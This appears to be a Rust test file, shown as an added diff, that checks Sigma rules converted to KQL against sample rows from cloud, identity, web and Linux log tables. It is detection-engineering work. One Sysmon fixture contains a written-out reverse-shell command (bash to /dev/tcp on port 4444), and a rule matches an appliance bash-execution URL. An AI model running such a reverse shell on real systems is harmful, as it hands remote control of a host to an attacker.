@@ -1,0 +1,257 @@
+//! The cloud, Linux and web tables of azure_monitor (and of sentinel_asim's
+//! fallback to them), end to end: a rule converted, then run with our
+//! evaluator over rows shaped as each table holds them (JSON documents that
+//! the table keeps as text are text, dynamic columns are objects, booleans
+//! and result codes as the table types them); one row the rule must find and
+//! one it must not. Where kql-run is next to the checkout, it runs the same
+//! cases and must give our evaluator's answer.
+
+mod common;
+
+use std::collections::BTreeMap;
+
+use serde_json::{json, Value};
+use sigmaplay_core::kql::convert;
+use sigmaplay_core::{kusto, parse_rule, Placeholders};
+
+use common::{compare_with_kql_run, kql_run, shared};
+
+/// kql-run's cases for one target, and our evaluator's answer per case id.
+type Oracle = (Vec<String>, BTreeMap<String, Vec<usize>>);
+
+struct Case {
+    name: &'static str,
+    rule: &'static str,
+    table: &'static str,
+    /// Rows the query must return.
+    hits: Vec<Value>,
+    /// Rows it must not.
+    misses: Vec<Value>,
+}
+
+fn cases() -> Vec<Case> {
+    vec![
+        Case {
+            name: "cloudtrail",
+            rule: "title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  sel:\n    eventSource: iam.amazonaws.com\n    eventName: CreateAccessKey\n    userIdentity.type: Root\n    requestParameters.userName|startswith: admin\n  condition: sel\n",
+            table: "AWSCloudTrail",
+            // RequestParameters is a string column: the connector writes the object as JSON text.
+            hits: vec![json!({"EventSource": "iam.amazonaws.com", "EventName": "CreateAccessKey", "UserIdentityType": "Root",
+                "RequestParameters": "{\"userName\":\"admin-backup\"}", "ReadOnly": false})],
+            misses: vec![
+                json!({"EventSource": "iam.amazonaws.com", "EventName": "CreateAccessKey", "UserIdentityType": "Root",
+                    "RequestParameters": "{\"userName\":\"bob\"}"}),
+                json!({"EventSource": "iam.amazonaws.com", "EventName": "CreateAccessKey", "UserIdentityType": "IAMUser",
+                    "RequestParameters": "{\"userName\":\"admin\"}"}),
+            ],
+        },
+        Case {
+            name: "cloudtrail-console-login",
+            rule: "title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  sel:\n    eventName: ConsoleLogin\n    additionalEventData.MFAUsed: 'No'\n    responseElements.ConsoleLogin: Success\n  condition: sel\n",
+            table: "AWSCloudTrail",
+            hits: vec![json!({"EventName": "ConsoleLogin", "AdditionalEventData": "{\"MFAUsed\":\"No\",\"LoginTo\":\"https://console.aws.amazon.com\"}",
+                "ResponseElements": "{\"ConsoleLogin\":\"Success\"}"})],
+            misses: vec![json!({"EventName": "ConsoleLogin", "AdditionalEventData": "{\"MFAUsed\":\"Yes\"}",
+                "ResponseElements": "{\"ConsoleLogin\":\"Success\"}"})],
+        },
+        Case {
+            name: "auditlogs",
+            rule: "title: t\nlogsource: {product: azure, service: auditlogs}\ndetection:\n  sel:\n    Category: RoleManagement\n    properties.message: Add member to role\n    Status: success\n  condition: sel\n",
+            table: "AuditLogs",
+            hits: vec![json!({"Category": "RoleManagement", "OperationName": "Add member to role", "Result": "success",
+                "TargetResources": [{"type": "User", "modifiedProperties": []}], "InitiatedBy": {"user": {"userPrincipalName": "a@b.c"}}})],
+            misses: vec![json!({"Category": "RoleManagement", "OperationName": "Add member to role", "Result": "failure"})],
+        },
+        Case {
+            name: "activitylogs",
+            rule: "title: t\nlogsource: {product: azure, service: activitylogs}\ndetection:\n  sel:\n    operationName|startswith: MICROSOFT.NETWORK/DNSZONES\n    operationName|endswith: /DELETE\n  condition: sel\n",
+            table: "AzureActivity",
+            hits: vec![json!({"OperationNameValue": "Microsoft.Network/dnszones/A/delete", "CategoryValue": "Administrative"})],
+            misses: vec![json!({"OperationNameValue": "Microsoft.Network/dnszones/A/write", "CategoryValue": "Administrative"})],
+        },
+        Case {
+            name: "signinlogs",
+            rule: "title: t\nlogsource: {product: azure, service: signinlogs}\ndetection:\n  sel:\n    ResultType: 50053\n    DeviceDetail.isCompliant: 'false'\n  condition: sel\n",
+            table: "SigninLogs",
+            // ResultType is a string column; DeviceDetail a dynamic object with a boolean.
+            hits: vec![json!({"ResultType": "50053", "DeviceDetail": {"isCompliant": false, "trustType": ""}})],
+            misses: vec![
+                json!({"ResultType": "0", "DeviceDetail": {"isCompliant": false}}),
+                json!({"ResultType": "50053", "DeviceDetail": {"isCompliant": true}}),
+            ],
+        },
+        Case {
+            name: "signinlogs-status",
+            rule: "title: t\nlogsource: {product: azure, service: signinlogs}\ndetection:\n  sel:\n    Status: Success\n    AuthenticationRequirement: singleFactorAuthentication\n  condition: sel\n",
+            table: "SigninLogs",
+            hits: vec![json!({"ResultType": "0", "AuthenticationRequirement": "singleFactorAuthentication", "Status": {"errorCode": 0}})],
+            misses: vec![json!({"ResultType": "50126", "AuthenticationRequirement": "singleFactorAuthentication", "Status": {"errorCode": 50126}})],
+        },
+        Case {
+            name: "signinlogs-failure",
+            rule: "title: t\nlogsource: {product: azure, service: signinlogs}\ndetection:\n  sel:\n    Status: Failure\n  condition: sel\n",
+            table: "SigninLogs",
+            // Any code but 0 is a failure.
+            hits: vec![json!({"ResultType": "50126"}), json!({"ResultType": "53003"})],
+            misses: vec![json!({"ResultType": "0"})],
+        },
+        Case {
+            name: "signinlogs-mfa-denied",
+            rule: "title: t\nlogsource: {product: azure, service: signinlogs}\ndetection:\n  sel:\n    AuthenticationRequirement: multiFactorAuthentication\n    Status|contains: MFA Denied\n  condition: sel\n",
+            table: "SigninLogs",
+            // Status is a dynamic object: error code, failure reason, details.
+            hits: vec![json!({"AuthenticationRequirement": "multiFactorAuthentication", "ResultType": "500121",
+                "Status": {"errorCode": 500121, "failureReason": "Authentication failed during strong authentication request.", "additionalDetails": "MFA denied; user declined the authentication"}})],
+            misses: vec![json!({"AuthenticationRequirement": "multiFactorAuthentication", "ResultType": "0", "Status": {"errorCode": 0, "additionalDetails": "MFA requirement satisfied by claim in the token"}})],
+        },
+        Case {
+            name: "riskdetection",
+            rule: "title: t\nlogsource: {product: azure, service: riskdetection}\ndetection:\n  sel:\n    riskEventType: anomalousToken\n  condition: sel\n",
+            table: "AADUserRiskEvents",
+            hits: vec![json!({"RiskEventType": "anomalousToken", "RiskLevel": "high"})],
+            misses: vec![json!({"RiskEventType": "unfamiliarFeatures", "RiskLevel": "high"})],
+        },
+        Case {
+            name: "okta",
+            rule: "title: t\nlogsource: {product: okta, service: okta}\ndetection:\n  sel:\n    debugContext.debugData.requestUri|contains: admin\n    securityContext.isProxy: 'true'\n  condition: sel\n",
+            table: "OktaV2_CL",
+            // DebugData is dynamic (debugContext.debugData); SecurityContextIsProxy a bool.
+            hits: vec![json!({"EventOriginalType": "user.session.start", "DebugData": {"requestUri": "/api/v1/admin/x"}, "SecurityContextIsProxy": true})],
+            misses: vec![json!({"EventOriginalType": "user.session.start", "DebugData": {"requestUri": "/api/v1/admin/x"}, "SecurityContextIsProxy": false})],
+        },
+        Case {
+            name: "gcp",
+            rule: "title: t\nlogsource: {product: gcp, service: gcp.audit}\ndetection:\n  sel:\n    gcp.audit.method_name: v1.compute.firewalls.delete\n  condition: sel\n",
+            table: "GCPAuditLogs",
+            hits: vec![json!({"MethodName": "v1.compute.firewalls.delete", "ServiceName": "compute.googleapis.com"})],
+            misses: vec![json!({"MethodName": "v1.compute.firewalls.insert", "ServiceName": "compute.googleapis.com"})],
+        },
+        Case {
+            name: "google-workspace",
+            rule: "title: t\nlogsource: {product: gcp, service: google_workspace.admin}\ndetection:\n  sel:\n    eventService: admin.googleapis.com\n    eventName: REMOVE_PRIVILEGE\n  condition: sel\n",
+            table: "GoogleWorkspaceReports",
+            hits: vec![json!({"IdApplicationName": "admin", "EventName": "REMOVE_PRIVILEGE"})],
+            misses: vec![json!({"IdApplicationName": "login", "EventName": "REMOVE_PRIVILEGE"})],
+        },
+        Case {
+            name: "github",
+            rule: "title: t\nlogsource: {product: github, service: audit}\ndetection:\n  sel:\n    action: repo.destroy\n  condition: sel\n",
+            table: "GitHubAuditLogPolling_CL",
+            hits: vec![json!({"action_s": "repo.destroy", "actor_s": "octocat"})],
+            misses: vec![json!({"action_s": "repo.create", "actor_s": "octocat"})],
+        },
+        Case {
+            name: "m365",
+            rule: "title: t\nlogsource: {product: m365, service: audit}\ndetection:\n  sel:\n    Operation: New-InboxRule\n  condition: sel\n",
+            table: "OfficeActivity",
+            hits: vec![json!({"Operation": "New-InboxRule", "OfficeWorkload": "Exchange"})],
+            misses: vec![json!({"Operation": "Set-Mailbox", "OfficeWorkload": "Exchange"})],
+        },
+        Case {
+            name: "kube-audit",
+            rule: "title: t\nlogsource: {product: kubernetes, category: application, service: audit}\ndetection:\n  sel:\n    verb: create\n    objectRef.resource: pods\n    objectRef.subresource: exec\n  condition: sel\n",
+            table: "AzureDiagnostics",
+            // log_s is the audit event as JSON text.
+            hits: vec![json!({"Category": "kube-audit", "log_s": "{\"verb\":\"create\",\"objectRef\":{\"resource\":\"pods\",\"subresource\":\"exec\"}}"})],
+            misses: vec![
+                json!({"Category": "kube-audit", "log_s": "{\"verb\":\"get\",\"objectRef\":{\"resource\":\"pods\",\"subresource\":\"exec\"}}"}),
+                json!({"Category": "kube-apiserver", "log_s": "{\"verb\":\"create\",\"objectRef\":{\"resource\":\"pods\",\"subresource\":\"exec\"}}"}),
+            ],
+        },
+        Case {
+            name: "proxy",
+            rule: "title: t\nlogsource: {category: proxy}\ndetection:\n  sel:\n    c-useragent|startswith: Microsoft-WebDAV-MiniRedir/\n    cs-method: GET\n  condition: sel\n",
+            table: "CommonSecurityLog",
+            hits: vec![json!({"RequestClientApplication": "Microsoft-WebDAV-MiniRedir/10.0.19045", "RequestMethod": "GET", "DestinationPort": 443})],
+            misses: vec![json!({"RequestClientApplication": "Mozilla/5.0", "RequestMethod": "GET", "DestinationPort": 443})],
+        },
+        Case {
+            name: "webserver",
+            rule: "title: t\nlogsource: {category: webserver}\ndetection:\n  sel:\n    cs-method: POST\n    cs-uri-query|contains: /mgmt/tm/util/bash\n    sc-status: 200\n  condition: sel\n",
+            table: "W3CIISLog",
+            // scStatus is a string column.
+            hits: vec![json!({"csMethod": "POST", "csUriQuery": "x=/mgmt/tm/util/bash", "scStatus": "200", "sPort": 443})],
+            misses: vec![json!({"csMethod": "POST", "csUriQuery": "x=/mgmt/tm/util/bash", "scStatus": "404", "sPort": 443})],
+        },
+        Case {
+            name: "sysmon-linux",
+            rule: "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Image|endswith: /bash\n    CommandLine|contains: '/dev/tcp/'\n  filter:\n    ParentImage: /usr/sbin/cron\n  condition: sel and not filter\n",
+            table: "Syslog",
+            // Sysmon for Linux's event 1 as it reaches Syslog: the XML in SyslogMessage, `&` escaped.
+            hits: vec![json!({"ProcessName": "sysmon", "Facility": "user", "SyslogMessage": "<Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/><EventID>1</EventID><Version>5</Version></System><EventData><Data Name=\"RuleName\">-</Data><Data Name=\"ProcessId\">4242</Data><Data Name=\"Image\">/usr/bin/bash</Data><Data Name=\"CommandLine\">bash -i &gt;&amp; /dev/tcp/10.0.0.1/4444 0&gt;&amp;1</Data><Data Name=\"ParentImage\">/usr/bin/python3</Data></EventData></Event>"})],
+            misses: vec![
+                json!({"ProcessName": "sysmon", "SyslogMessage": "<Event><System><Provider Name=\"Linux-Sysmon\"/><EventID>1</EventID></System><EventData><Data Name=\"Image\">/usr/bin/bash</Data><Data Name=\"CommandLine\">bash -c /dev/tcp/x</Data><Data Name=\"ParentImage\">/usr/sbin/cron</Data></EventData></Event>"}),
+                // The same values in another event (5, process terminated) are not a process creation.
+                json!({"ProcessName": "sysmon", "SyslogMessage": "<Event><System><Provider Name=\"Linux-Sysmon\"/><EventID>5</EventID></System><EventData><Data Name=\"Image\">/usr/bin/bash</Data><Data Name=\"CommandLine\">bash /dev/tcp/x</Data></EventData></Event>"}),
+                json!({"ProcessName": "sshd", "SyslogMessage": "Image /usr/bin/bash /dev/tcp/"}),
+            ],
+        },
+        Case {
+            name: "syslog",
+            rule: "title: t\nlogsource: {product: linux, service: sshd}\ndetection:\n  keywords:\n    - 'error in libcrypto'\n  condition: keywords\n",
+            table: "Syslog",
+            hits: vec![json!({"ProcessName": "sshd", "SyslogMessage": "error: error in libcrypto", "Facility": "auth"})],
+            misses: vec![json!({"ProcessName": "sshd", "SyslogMessage": "Accepted publickey for root", "Facility": "auth"})],
+        },
+    ]
+}
+
+#[test]
+fn native_table_rows_match_as_the_rule_says() {
+    let mut failures = Vec::new();
+    let mut oracle: BTreeMap<&str, Oracle> = BTreeMap::new();
+    for target in ["azure_monitor", "sentinel_asim"] {
+        let Some(p) = sigmaplay_core::pipeline::builtin(target) else { panic!("{target}") };
+        for c in cases() {
+            let rule = parse_rule(c.rule).unwrap_or_else(|d| panic!("{}: {d:?}", c.name));
+            let conv = convert(&rule, &p, &Placeholders::new());
+            let errors: Vec<_> = conv.diagnostics.iter().filter(|d| d.is_error()).collect();
+            assert!(errors.is_empty(), "{target} {}: {errors:#?}", c.name);
+            let q = conv.queries.first().unwrap_or_else(|| panic!("{target} {}: no query", c.name));
+            // sentinel_asim keeps its ASIM schemas where one fits (the web logs): only the native fallbacks here.
+            if conv.table.as_deref() != Some(c.table) {
+                assert_eq!(target, "sentinel_asim", "{}: {:?}", c.name, conv.table);
+                continue;
+            }
+            let rows: Vec<Value> = c.hits.iter().chain(&c.misses).cloned().collect();
+            let ev = kusto::evaluate_matches(q, &rows);
+            assert!(ev.ok(), "{target} {}: {:?}\n{q}", c.name, ev.diagnostics);
+            let got = ev.matched(rows.len());
+            let expected: Vec<usize> = (0..c.hits.len()).collect();
+            let ours: Vec<usize> = got.iter().enumerate().filter(|(_, m)| **m).map(|(k, _)| k).collect();
+            if ours != expected {
+                failures.push(format!("{target} {}: returns rows {ours:?}, expected {expected:?}\n  {q}", c.name));
+            }
+            let id = format!("{target}/{}", c.name);
+            let o = oracle.entry(target).or_default();
+            o.1.insert(id.clone(), ours);
+            o.0.push(json!({"id": id, "query": q, "events": rows, "expected": expected}).to_string());
+        }
+    }
+    let tool = shared().join("tools/kql-run/kql-run");
+    if tool.exists() {
+        for (target, (lines, ours)) in &oracle {
+            let Some(results) = kql_run(&tool, &format!("native-{target}"), lines) else { continue };
+            // What kql-run cannot run is said, not counted: `* contains` (keywords) is not
+            // implemented there, and DuckDB cannot hold AzureDiagnostics, whose documented
+            // columns include names that differ only in case (clientIP_s, clientIp_s).
+            let (results, skipped): (Vec<Value>, Vec<Value>) = results.into_iter().partition(|r| {
+                !r["error"]
+                    .as_str()
+                    .is_some_and(|e| e.starts_with("KqlUnsupportedError") || e.starts_with("CatalogException"))
+            });
+            for r in &skipped {
+                eprintln!("native_tables[{target}]: kql-run cannot run {}: {}", r["id"], r["error"]);
+            }
+            let (same, differ) = compare_with_kql_run(&results, |id| ours.get(id).cloned(), target);
+            eprintln!(
+                "native_tables[{target}]: kql-run gives our evaluator's answer on {same} of {} cases",
+                results.len()
+            );
+            failures.extend(differ);
+        }
+    } else {
+        eprintln!("native_tables: {} not found, kql-run part skipped", tool.display());
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
